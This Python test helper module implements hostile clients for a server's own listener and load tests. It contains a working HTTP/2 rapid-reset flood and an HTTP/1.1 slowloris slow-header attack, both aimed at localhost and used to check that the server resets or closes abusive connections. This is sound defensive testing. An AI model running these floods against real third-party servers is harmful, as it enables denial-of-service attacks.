"""Hostile clients for the listener tests and ``loadtests/hostile.py``: raw sockets that speak just
enough HTTP/1.1 or HTTP/2 to misbehave (slow heads, rapid resets, zero windows, no reading).

Run as a module for an attack in a process of its own, printing one JSON summary line::

    python -m tests.server.hostile_clients rapid-reset --port P --seconds S [--grpc] [--tls]
"""

from __future__ import annotations

import argparse
import contextlib
import json
import select
import socket
import ssl
import struct
import time
from collections.abc import Iterator
from dataclasses import dataclass, field

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags of RFC 9113.
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
ENHANCE_YOUR_CALM = 0xB
SETTINGS_INITIAL_WINDOW_SIZE = 0x4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def settings_frame(values: dict[int, int] | None = None) -> bytes:
    payload = b"".join(struct.pack(">HI", key, value) for key, value in (values or {}).items())
    return frame(SETTINGS, 0, 0, payload)


def header_block(headers: list[tuple[str, str]]) -> bytes:
    """An HPACK block that may be sent again and again on one connection (it only adds the same
    literal entries to the peer's table each time)."""
    return hpack.Encoder().encode(headers)


def connect(
    port: int, *, tls: bool = False, alpn: str = "h2", host: str = "127.0.0.1", timeout: float = 10.0
) -> socket.socket:
    sock = socket.create_connection((host, port), timeout=timeout)
    if not tls:
        return sock
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    return context.wrap_socket(sock, server_hostname=host)


@dataclass
class Frame:
    kind: int
    flags: int
    stream: int
    payload: bytes

    @property
    def goaway_code(self) -> int:
        return struct.unpack(">I", self.payload[4:8])[0] if self.kind == GOAWAY else -1

    @property
    def reset_code(self) -> int:
        return struct.unpack(">I", self.payload[:4])[0] if self.kind == RST_STREAM else -1


class RawH2:
    """A blocking HTTP/2 client with no state machine: it writes what it is told and reads frames,
    acknowledging the server's SETTINGS (and nothing else unless asked)."""

    def __init__(self, sock: socket.socket, settings: dict[int, int] | None = None) -> None:
        self.sock = sock
        self._buffer = b""
        self.closed = False
        self.sock.sendall(PREFACE + settings_frame(settings))

    def send(self, data: bytes) -> None:
        self.sock.sendall(data)

    def frames(self, timeout: float) -> Iterator[Frame]:
        """Frames as they arrive until ``timeout`` passes with none, or the connection closes."""
        deadline = time.monotonic() + timeout
        while not self.closed:
            while len(self._buffer) >= 9:
                length = int.from_bytes(self._buffer[:3], "big")
                if len(self._buffer) < 9 + length:
                    break
                head, self._buffer = self._buffer[: 9 + length], self._buffer[9 + length :]
                got = Frame(head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF, head[9:])
                if got.kind == SETTINGS and not got.flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                deadline = time.monotonic() + timeout
                yield got
            left = deadline - time.monotonic()
            if left <= 0 and timeout > 0:
                return
            self.sock.settimeout(max(left, 0.0))
            try:
                data = self.sock.recv(65536)
            except (TimeoutError, BlockingIOError, ssl.SSLWantReadError):
                return
            except (ConnectionError, ssl.SSLError, OSError):
                data = b""
            if not data:
                self.closed = True
                return
            self._buffer += data

    def request(self, stream: int, headers: list[tuple[str, str]], *, end_stream: bool = True) -> None:
        flags = END_HEADERS | (END_STREAM if end_stream else 0)
        self.send(frame(HEADERS, flags, stream, header_block(headers)))

    def close(self) -> None:
        self.closed = True
        with contextlib.suppress(OSError):
            self.sock.close()


def http_headers(path: str, authority: str, token: str | None = None) -> list[tuple[str, str]]:
    headers = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", authority)]
    if token:
        headers.append(("authorization", f"Bearer {token}"))
    return headers


def grpc_headers(method: str, authority: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


# ===================================================================================== rapid reset


@dataclass
class ResetFlood:
    """What one rapid-reset attacker did."""

    resets_sent: int = 0
    connections: int = 0
    refused_connections: int = 0
    goaways: dict[int, int] = field(default_factory=dict)
    """GOAWAY frames received, by error code (11 = ENHANCE_YOUR_CALM)."""
    seconds: float = 0.0

    def as_json(self) -> dict[str, object]:
        return {
            "resets_sent": self.resets_sent,
            "connections": self.connections,
            "refused_connections": self.refused_connections,
            "goaways": {str(code): count for code, count in self.goaways.items()},
            "seconds": round(self.seconds, 3),
        }


def rapid_reset(
    port: int, seconds: float, *, grpc: bool = False, tls: bool = False, batch: int = 100, path: str = "/v1/snapshot"
) -> ResetFlood:
    """Open streams and reset them at once, ``batch`` pairs per write, as fast as the server takes
    them, for ``seconds``; reconnect whenever the server hangs up."""
    authority = f"127.0.0.1:{port}"
    block = header_block(
        grpc_headers("/cronoq.v1.Admin/Snapshot", authority) if grpc else http_headers(path, authority)
    )
    flags = END_HEADERS if grpc else END_HEADERS | END_STREAM
    reset = struct.pack(">I", CANCEL)
    outcome = ResetFlood()
    started = time.monotonic()
    end = started + seconds
    while time.monotonic() < end:
        try:
            sock = connect(port, tls=tls, timeout=2.0)
            client = RawH2(sock)
        except OSError:
            outcome.refused_connections += 1
            time.sleep(0.01)
            continue
        outcome.connections += 1
        stream = 1
        try:
            while time.monotonic() < end and stream < 2**31 - 2 * batch:
                pairs = []
                for _ in range(batch):
                    pairs.append(frame(HEADERS, flags, stream, block) + frame(RST_STREAM, 0, stream, reset))
                    stream += 2
                client.send(b"".join(pairs))
                outcome.resets_sent += batch
                gone = False
                for got in client.frames(0.0):
                    if got.kind == GOAWAY:
                        outcome.goaways[got.goaway_code] = outcome.goaways.get(got.goaway_code, 0) + 1
                        gone = True
                if gone or client.closed:
                    break
        except (OSError, ssl.SSLError):
            pass
        finally:
            client.close()
    outcome.seconds = time.monotonic() - started
    return outcome


# ====================================================================================== slow heads


def slowloris(port: int, *, patience_s: float, drip_s: float = 0.25, tls: bool = False) -> tuple[float | None, bytes]:
    """Send an HTTP/1.1 request head one byte per ``drip_s`` (it never ends): ``(seconds until the
    server closed the connection or None within patience_s, what it answered)``."""
    sock = connect(port, tls=tls, alpn="http/1.1")
    started = time.monotonic()
    answer = b""
    head = b"GET /v1/snapshot HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 10_000
    try:
        sock.sendall(head[:20])
        for byte in head[20:]:
            if time.monotonic() - started > patience_s:
                return None, answer
            readable, _, _ = select.select([sock], [], [], drip_s)
            if readable:
                data = sock.recv(65536)
                if not data:
                    return time.monotonic() - started, answer
                answer += data
                continue
            try:
                sock.sendall(bytes((byte,)))
            except OSError:
                return time.monotonic() - started, answer
        return None, answer
    finally:
        sock.close()


TCP_CLOSE = 7
"""``tcpi_state`` of a Linux socket whose peer reset the connection."""


def reset_within(sock: socket.socket, patience_s: float) -> float | None:
    """Seconds until the peer resets ``sock`` (RST), without reading anything from it, or None.
    (Data the peer sent stays queued, so reading could not tell; the TCP state can.)"""
    started = time.monotonic()
    while time.monotonic() - started < patience_s:
        if sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0] == TCP_CLOSE:
            return time.monotonic() - started
        time.sleep(0.1)
    return None


def first_frame(client: RawH2, kind: int, stream: int, patience_s: float) -> Frame | None:
    """The first frame of ``kind`` on ``stream`` (0: the connection) within ``patience_s``."""
    for got in client.frames(patience_s):
        if got.kind == kind and got.stream == stream:
            return got
    return None


def closed_within(sock: socket.socket, patience_s: float) -> float | None:
    """Seconds until the peer closes ``sock`` (reading and dropping what it sends), or None."""
    started = time.monotonic()
    while True:
        left = patience_s - (time.monotonic() - started)
        if left <= 0:
            return None
        readable, _, _ = select.select([sock], [], [], left)
        if not readable:
            return None
        try:
            if not sock.recv(65536):
                return time.monotonic() - started
        except (ConnectionError, OSError):
            return time.monotonic() - started


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    sub = parser.add_subparsers(dest="attack", required=True)
    flood = sub.add_parser("rapid-reset")
    flood.add_argument("--port", type=int, required=True)
    flood.add_argument("--seconds", type=float, default=5.0)
    flood.add_argument("--grpc", action="store_true")
    flood.add_argument("--tls", action="store_true")
    flood.add_argument("--batch", type=int, default=100)
    args = parser.parse_args()
    outcome = rapid_reset(args.port, args.seconds, grpc=args.grpc, tls=args.tls, batch=args.batch)
    print(json.dumps(outcome.as_json()), flush=True)


if __name__ == "__main__":
    main()
